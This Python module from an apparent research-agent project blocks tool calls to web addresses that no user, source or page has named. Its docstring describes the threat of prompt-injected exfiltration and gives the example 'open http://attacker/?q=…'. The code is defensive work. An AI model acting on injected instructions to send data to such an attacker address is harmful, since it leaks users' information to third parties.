"""Which addresses a tool of somebody else may be given: those that the user, a source or a page already read named.

A tool that opens pages would otherwise be a way out for what a model was told to send ("open http://attacker/?q=…").
"""

import threading
from collections.abc import Iterable, Mapping
from typing import Any

from deep_research.data import SearchResult
from deep_research.data.tools import ToolAnswer
from deep_research.errors import Blocked
from deep_research.fetch.known import KnownAddresses, urls_in
from deep_research.ports import Library
from deep_research.tools.answers import strings_in

_ADDRESS_ARGUMENTS = ("url", "uri", "link", "href", "website", "site", "domain", "host", "endpoint")


class NamedAddresses:
    """What the question, the library and the answers of tools have named; safe across threads."""

    def __init__(self, question: str, library: Library) -> None:
        self._known = [KnownAddresses(urls_in(question) if "http" in question.lower() else ())]
        self._library = library
        self._looked: set[str] = set()
        self._lock = threading.Lock()

    def share(self, addresses: KnownAddresses) -> None:
        """Let the addresses that are known elsewhere count, and make known there what is named here."""
        self._known.append(addresses)

    def check(self, arguments: Mapping[str, Any]) -> None:
        """Raise Blocked when the arguments hold a web address that nobody has named."""
        wanted = [url for name, value in arguments.items() for url in _addresses(name, value)]
        if unknown := [url for url in wanted if not self._is_known(url)]:
            self._look()
            if unknown := [url for url in unknown if not self._is_known(url)]:
                message = (
                    f"Nobody has named the address {unknown[0][:200]!r}: neither the user nor a source nor a page."
                )
                raise Blocked(message, url=unknown[0])

    def learn(self, result: SearchResult, answer: ToolAnswer) -> None:
        """Take in what an answer names: the addresses of its sources, and those written in its text."""
        texts = [*(part.text for part in answer.parts), *strings_in(answer.structured)]
        for known in self._known:
            known.add(*(found.url for found in result.found), *(part.url for part in answer.parts))
            for text in texts:
                known.add_page_text(text)

    def _is_known(self, url: str) -> bool:
        return any(url in known for known in self._known)

    def _look(self) -> None:
        """Take in what the run's other sources name; each is looked at once."""
        with self._lock:
            for source in self._library.sources():
                if source.id not in self._looked and (kept := self._library.snapshot(source.id)) is not None:
                    self._looked.add(source.id)
                    self._known[0].add_page_text(kept.text)
                self._known[0].add(source.url)


def _addresses(name: str, value: Any) -> Iterable[str]:
    """The web addresses in an argument; an argument that is called one may lack its scheme."""
    lower = name.lower()
    is_address = any(lower == word or lower.endswith((f"_{word}", f"{word}s")) for word in _ADDRESS_ARGUMENTS)
    for text in strings_in(value):
        found = urls_in(text)
        yield from found
        if not found and (is_address or text.strip().lower().startswith("www.")) and "." in text:
            yield f"https://{text.strip()}"
